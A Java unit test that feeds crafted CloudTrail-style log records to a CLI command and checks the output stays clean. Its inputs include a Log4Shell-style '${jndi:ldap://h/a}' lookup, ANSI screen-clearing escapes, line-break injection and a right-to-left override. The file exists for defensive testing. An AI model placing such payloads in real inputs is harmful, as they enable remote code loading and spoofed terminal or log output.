package io.tidemark.jobs.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidemark.jobs.Invocations;
import io.tidemark.jobs.SharedSpark;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Anyone who writes a log chooses its text, so none of it may reach a terminal or a log line
 * unescaped.
 */
class HostileLogsTest {
  @TempDir private Path folder;

  @Test
  void hostileTextStaysOffScreenAndLog() throws IOException {
    SharedSpark.session();
    String hostile = "\\u001b[2J\\r\\nAlerts 0\\u202e" + "x".repeat(3_000) + "${jndi:ldap://h/a}";
    String members = ",\"eventName\":\"Get" + hostile + "\",\"userAgent\":\"" + hostile + "\"}";
    Path logs = Files.createDirectories(folder.resolve("logs"));
    Files.writeString(
        logs.resolve("a.json"),
        record("1", hostile)
            + members
            + "\n"
            + record("2", "ci")
            + ",\"eventName\":7}\n{\"half"
            + hostile);
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    ByteArrayOutputStream lines = new ByteArrayOutputStream();
    PrintStream stderr = System.err;
    System.setErr(new PrintStream(lines, true, StandardCharsets.UTF_8));
    int exitCode;
    try {
      exitCode =
          CommandTree.of(Invocations.at(folder))
              .setOut(new PrintWriter(out, true))
              .setErr(new PrintWriter(err, true))
              .execute("nightly", "--input", logs.toString());
    } finally {
      System.setErr(stderr);
    }
    assertThat(exitCode).as(err.toString()).isZero();
    assertThat(out.toString()).contains("3 records = 2 accepted", "1 rejected", "Not judged");
    String logged = lines.toString(StandardCharsets.UTF_8);
    assertThat(logged).contains("INFO  Run ");
    for (String shown : List.of(out.toString(), err.toString(), logged)) {
      assertThat(shown).doesNotContain("\u001b", "\u202e", "xxxxxxxxxx", "jndi");
    }
  }

  private static String record(String id, String user) {
    return "{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":"
        + "\"arn:aws:iam::111122223333:user/"
        + user
        + "\",\"accountId\":\"111122223333\",\"userName\":\"ci\"},"
        + "\"eventTime\":\"2026-03-20T10:00:00Z\",\"eventSource\":\"s3.amazonaws.com\","
        + "\"eventID\":\""
        + id
        + "\",\"sourceIPAddress\":\"198.51.100.7\"";
  }
}
